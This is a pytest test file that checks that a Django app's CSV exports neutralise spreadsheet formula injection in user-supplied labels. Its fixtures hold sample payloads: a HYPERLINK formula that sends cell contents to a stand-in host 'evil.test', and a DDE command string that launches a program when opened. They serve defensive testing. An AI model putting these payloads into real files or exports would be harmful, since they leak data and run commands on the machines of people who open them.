"""CSV exports neutralise labels that a spreadsheet would run as formulas (issue 12, item 8).

Both exports — the dashboard's Export page and `GET /v1/export` — go through one helper: a text
cell starting with =, +, -, @, a tab or a carriage return gets a leading ', numbers never change.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

pytestmark = pytest.mark.django_db

CRAFTED = {
    "run_id": "=1+1",
    "section_path": '=HYPERLINK("https:evil.test?"&A1,"click")',  # no "/": the path is one section
    "customer_id": "+1-555-0100",
    "endpoint": "@SUM(A1:A9)",
    "span_id": "-2+3",
    "parent_span_id": "\tcmd",  # ingestion refuses control characters now: set on the stored row below
}


@pytest.fixture
def crafted(org, ingest_key, post_events, prices):
    events = [
        {"event_id": "formula", "provider": "openai", "model": "gpt-4o", "input_tokens": 1000, "output_tokens": 200,
         "latency_ms": 12.5, "http_status": 200, "metadata": {"note": "=cmd|' /C calc'!A0"},
         **{**CRAFTED, "parent_span_id": "p"}},
        {"event_id": "cr", "provider": "openai", "model": "gpt-4o", "input_tokens": 7, "section": "-agent"},
        {"event_id": "plain", "provider": "openai", "model": "gpt-4o", "input_tokens": 1000, "output_tokens": 200,
         "section_path": "agent:a-b=c", "customer_id": "acme"},
    ]
    response = post_events(ingest_key, {"events": events})
    assert response.status_code == 202 and response.json()["accepted"] == 3, response.content
    # Rows stored before labels were checked for control characters may still hold a tab or a CR.
    from ingestion.models import TraceEvent

    events = TraceEvent.objects.for_org(org)
    events.filter(event_id="formula").update(parent_span_id=CRAFTED["parent_span_id"])
    events.filter(event_id="cr").update(model="\rgpt-4o")


def _rows(response) -> dict[str, dict[str, str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return {row["event_id"]: row for row in csv.DictReader(io.StringIO(body))}


def _check(rows):
    row = rows["formula"]
    for field, value in CRAFTED.items():
        assert row[field] == "'" + value, field
    assert row["section"] == "'" + CRAFTED["section_path"]  # derived from the path
    assert (row["input_tokens"], row["output_tokens"], row["latency_ms"], row["http_status"]) == ("1000", "200", "12.5", "200")
    assert row["cost_usd"] == "0.0045"
    assert json.loads(row["metadata"]) == {"note": "=cmd|' /C calc'!A0"}  # JSON starts with "{": not a formula
    assert rows["cr"]["model"] == "'\rgpt-4o" and rows["cr"]["section"] == "'-agent"
    plain = rows["plain"]
    assert (plain["section_path"], plain["customer_id"], plain["model"]) == ("agent:a-b=c", "acme", "gpt-4o")
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_read_api_csv_export_neutralises_formulas(api, read_key, crafted):
    _check(_rows(api(read_key).get("/v1/export", format="csv", window="24h")))


def test_dashboard_csv_export_neutralises_formulas(member_client, org, crafted):
    _check(_rows(member_client.get(f"/o/{org.slug}/export/", {"window": "24h", "format": "csv"})))


def test_json_export_keeps_labels_as_sent(api, read_key, crafted):
    response = api(read_key).get("/v1/export", format="json", window="24h")
    events = {e["event_id"]: e for e in json.loads(b"".join(response.streaming_content))}
    assert events["formula"]["run_id"] == "=1+1" and events["formula"]["customer_id"] == "+1-555-0100"
